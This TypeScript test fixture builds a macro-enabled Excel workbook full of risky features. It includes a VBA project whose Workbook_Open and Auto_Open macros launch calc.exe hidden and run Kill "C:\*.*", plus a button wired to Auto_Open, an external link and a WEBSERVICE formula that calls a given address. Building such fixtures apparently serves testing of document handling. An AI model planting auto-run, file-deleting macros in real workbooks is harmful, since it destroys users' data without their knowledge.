/**
 * A macro-enabled workbook part by part as Excel writes one: VBA project in a compound file, a button that calls it, links to another
 * workbook with what was last seen there, names, shared and array formulas with their last values. For tests only.
 */
import { type Zippable, zipSync } from 'fflate';

const MAIN = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const PACKAGE = 'http://schemas.openxmlformats.org/package/2006';
const MICROSOFT = 'http://schemas.microsoft.com/office/2006/relationships';
const SHEETS = 'application/vnd.openxmlformats-officedocument.spreadsheetml';
const PROLOG = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n';

/** What the macros would do, were they run. */
export const MACRO = [
  'Attribute VB_Name = "ThisWorkbook"',
  'Private Sub Workbook_Open()',
  '  Shell "calc.exe", vbHide',
  'End Sub',
  'Sub Auto_Open()',
  '  Kill "C:\\*.*"',
  'End Sub',
].join('\r\n');

const SECTOR = 512;
const END_OF_CHAIN = 0xfffffffe;
const FREE = 0xffffffff;
/** Shorter streams would lie in a stream of their own kind. */
const LEAST_STREAM = 4_096;

/** A compound file (MS-CFB, version 3) of a storage `VBA` with these streams. */
export function compoundFile(streams: Readonly<Record<string, string>>): Uint8Array {
  const bodies = Object.entries(streams).map(([name, text]) => {
    const bytes = Buffer.alloc(Math.max(LEAST_STREAM, Math.ceil(text.length / SECTOR) * SECTOR));
    bytes.write(text, 'latin1');
    return { name, bytes };
  });
  const directorySectors = Math.ceil((bodies.length + 2) / 4);
  const fat = Buffer.alloc(SECTOR, 0xff);
  fat.writeUInt32LE(0xfffffffd, 0);
  const chain = (from: number, count: number) => {
    for (let at = 0; at < count; at += 1)
      fat.writeUInt32LE(at === count - 1 ? END_OF_CHAIN : from + at + 1, (from + at) * 4);
  };
  chain(1, directorySectors);
  const directory = Buffer.alloc(directorySectors * SECTOR);
  const entry = (at: number, name: string, type: number, right: number, child: number, start: number, size: number) => {
    const from = at * 128;
    directory.write(name, from, 'utf16le');
    directory.writeUInt16LE((name.length + 1) * 2, from + 64);
    directory.writeUInt8(type, from + 66);
    directory.writeUInt8(1, from + 67);
    for (const [offset, value] of [
      [68, FREE],
      [72, right],
      [76, child],
      [116, start],
      [120, size],
    ] as const)
      directory.writeUInt32LE(value, from + offset);
  };
  entry(0, 'Root Entry', 5, FREE, 1, END_OF_CHAIN, 0);
  entry(1, 'VBA', 1, FREE, 2, 0, 0);
  let sector = 1 + directorySectors;
  for (const [at, { name, bytes }] of bodies.entries()) {
    entry(at + 2, name, 2, at + 1 < bodies.length ? at + 3 : FREE, FREE, sector, bytes.length);
    chain(sector, bytes.length / SECTOR);
    sector += bytes.length / SECTOR;
  }
  const header = Buffer.alloc(SECTOR, 0xff);
  header.fill(0, 0, 76);
  header.write('d0cf11e0a1b11ae1', 'hex');
  for (const [offset, value] of [
    [24, 0x3e],
    [26, 3],
    [28, 0xfffe],
    [30, 9],
    [32, 6],
  ] as const)
    header.writeUInt16LE(value, offset);
  for (const [offset, value] of [
    [44, 1],
    [48, 1],
    [56, LEAST_STREAM],
    [60, END_OF_CHAIN],
    [68, END_OF_CHAIN],
    [76, 0],
  ] as const)
    header.writeUInt32LE(value, offset);
  return new Uint8Array(Buffer.concat([header, fat, directory, ...bodies.map(({ bytes }) => bytes)]));
}

function related(...entries: readonly (readonly [type: string, target: string, mode?: string])[]): string {
  const lines = entries.map(([type, target, mode], at) => {
    const full = type.startsWith('http') ? type : `${OFFICE}/${type}`;
    return `<Relationship Id="rId${at + 1}" Type="${full}" Target="${target}"${mode === undefined ? '' : ` TargetMode="${mode}"`}/>`;
  });
  return `${PROLOG}<Relationships xmlns="${PACKAGE}/relationships">${lines.join('')}</Relationships>`;
}

/** Departments whose names and numbers are the last values of formulas; `address` is where the other workbook is said to lie. */
export function macroWorkbook(address: string): Uint8Array {
  const strings = ['Afdelingsnr', 'Afdelingsnavn', 'Antal boliger', 'Areal m2', '0101', '0102', '0103'];
  const shared = (reference: string, at: number) => `<c r="${reference}" s="1" t="s"><v>${at}</v></c>`;
  const text = (reference: string, code: string, value: string) =>
    `<c r="${reference}" t="str"><f>${code}</f><v>${value}</v></c>`;
  const sheet = [
    `<row r="1" spans="1:4" x14ac:dyDescent="0.25">${strings
      .slice(0, 4)
      .map((_heading, at) => shared(`${'ABCD'[at]}1`, at))
      .join('')}</row>`,
    `<row r="2" spans="1:4">${shared('A2', 4)}${text('B2', '[1]Ark1!$A$1', 'Åparken')}<c r="C2"><f>SUM([1]Ark1!$B$1:$B$3)</f><v>12</v></c><c r="D2"><f t="shared" ref="D2:D4" si="0">C2*85.5</f><v>1026</v></c></row>`,
    `<row r="3" spans="1:4">${shared('A3', 5)}${text('B3', 'FraMakro(A3)', 'Bøgely')}<c r="C3"><f>Boliger</f><v>20</v></c><c r="D3"><f t="shared" si="0"/><v>1710</v></c></row>`,
    `<row r="4" spans="1:4">${shared('A4', 6)}${text('B4', `_xlfn.WEBSERVICE("${address}")`.replaceAll('"', '&quot;'), 'Lunden')}<c r="C4" cm="1"><f t="array" ref="C4">MAX(C2:C3)</f><v>20</v></c><c r="D4"><f t="shared" si="0"/><v>1710</v></c></row>`,
  ].join('');
  const parts: Record<string, string | Uint8Array> = {
    '[Content_Types].xml': `${PROLOG}<Types xmlns="${PACKAGE}/content-types"><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="vml" ContentType="application/vnd.openxmlformats-officedocument.vmlDrawing"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="${SHEETS}.worksheet+xml"/><Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="${SHEETS}.externalLink+xml"/><Override PartName="/xl/sharedStrings.xml" ContentType="${SHEETS}.sharedStrings+xml"/><Override PartName="/xl/styles.xml" ContentType="${SHEETS}.styles+xml"/><Override PartName="/xl/calcChain.xml" ContentType="${SHEETS}.calcChain+xml"/><Override PartName="/xl/ctrlProps/ctrlProp1.xml" ContentType="application/vnd.ms-excel.controlproperties+xml"/></Types>`,
    '_rels/.rels': related(['officeDocument', 'xl/workbook.xml']),
    'xl/workbook.xml': `${PROLOG}<workbook xmlns="${MAIN}" xmlns:r="${OFFICE}"><fileVersion appName="xl" lastEdited="7" lowestEdited="7" rupBuild="28129" codeName="{1F1B2A3C-0000-4000-8000-000000000001}"/><workbookPr codeName="ThisWorkbook" defaultThemeVersion="166925"/><bookViews><workbookView xWindow="-120" yWindow="-120" windowWidth="29040" windowHeight="15720"/></bookViews><sheets><sheet name="Afdelinger" sheetId="1" r:id="rId1"/></sheets><externalReferences><externalReference r:id="rId2"/></externalReferences><definedNames><definedName name="Boliger">[1]Ark1!$B$1</definedName><definedName name="Auto_Open" hidden="1">Afdelinger!$A$1</definedName><definedName name="_xlnm.Print_Area" localSheetId="0">Afdelinger!$A$1:$D$4</definedName></definedNames><calcPr calcId="191029" fullCalcOnLoad="1"/></workbook>`,
    'xl/_rels/workbook.xml.rels': related(
      ['worksheet', 'worksheets/sheet1.xml'],
      ['externalLink', 'externalLinks/externalLink1.xml'],
      ['styles', 'styles.xml'],
      ['sharedStrings', 'sharedStrings.xml'],
      [`${MICROSOFT}/vbaProject`, 'vbaProject.bin'],
      ['calcChain', 'calcChain.xml'],
    ),
    'xl/vbaProject.bin': compoundFile({
      ThisWorkbook: MACRO,
      dir: '\x01',
      PROJECT: 'ID="{0}"\r\nDocument=ThisWorkbook/&H00000000\r\n',
    }),
    'xl/worksheets/sheet1.xml': `${PROLOG}<worksheet xmlns="${MAIN}" xmlns:r="${OFFICE}" xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" mc:Ignorable="x14ac" xmlns:x14ac="http://schemas.microsoft.com/office/spreadsheetml/2009/9/ac"><sheetPr codeName="Ark1"/><dimension ref="A1:D4"/><sheetFormatPr defaultRowHeight="15" x14ac:dyDescent="0.25"/><sheetData>${sheet}</sheetData><pageMargins left="0.7" right="0.7" top="0.75" bottom="0.75" header="0.3" footer="0.3"/><legacyDrawing r:id="rId1"/><mc:AlternateContent><mc:Choice Requires="x14"><controls><control shapeId="1025" r:id="rId2" name="Knap 1"><controlPr defaultSize="0" print="0" autoFill="0" autoPict="0" macro="[0]!Auto_Open"/></control></controls></mc:Choice></mc:AlternateContent></worksheet>`,
    'xl/worksheets/_rels/sheet1.xml.rels': related(
      ['vmlDrawing', '../drawings/vmlDrawing1.vml'],
      ['ctrlProp', '../ctrlProps/ctrlProp1.xml'],
    ),
    'xl/drawings/vmlDrawing1.vml':
      '<xml xmlns:x="urn:schemas-microsoft-com:office:excel"><x:ClientData ObjectType="Button"><x:FmlaMacro>[0]!Auto_Open</x:FmlaMacro></x:ClientData></xml>',
    'xl/ctrlProps/ctrlProp1.xml': `${PROLOG}<formControlPr xmlns="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main" objectType="Button" lockText="1"/>`,
    'xl/externalLinks/externalLink1.xml': `${PROLOG}<externalLink xmlns="${MAIN}" xmlns:r="${OFFICE}"><externalBook r:id="rId1"><sheetNames><sheetName val="Ark1"/></sheetNames><sheetDataSet><sheetData sheetId="0"><row r="1"><cell r="A1" t="str"><v>Åparken</v></cell><cell r="B1"><v>20</v></cell></row></sheetData></sheetDataSet></externalBook></externalLink>`,
    'xl/externalLinks/_rels/externalLink1.xml.rels': related(['externalLinkPath', address, 'External']),
    'xl/calcChain.xml': `${PROLOG}<calcChain xmlns="${MAIN}"><c r="B2" i="1"/><c r="C2"/><c r="D2"/></calcChain>`,
    'xl/sharedStrings.xml': `${PROLOG}<sst xmlns="${MAIN}" count="${strings.length}" uniqueCount="${strings.length}">${strings.map((one) => `<si><t>${one}</t></si>`).join('')}</sst>`,
    'xl/styles.xml': `${PROLOG}<styleSheet xmlns="${MAIN}"><cellXfs count="2"><xf numFmtId="0"/><xf numFmtId="49" quotePrefix="1" applyNumberFormat="1"/></cellXfs></styleSheet>`,
  };
  const bytes = Object.entries(parts).map(
    ([name, content]) =>
      [name, typeof content === 'string' ? new Uint8Array(Buffer.from(content, 'utf8')) : content] as const,
  );
  return zipSync(Object.fromEntries(bytes) satisfies Zippable, { mtime: new Date('2026-01-01T00:00:00') });
}
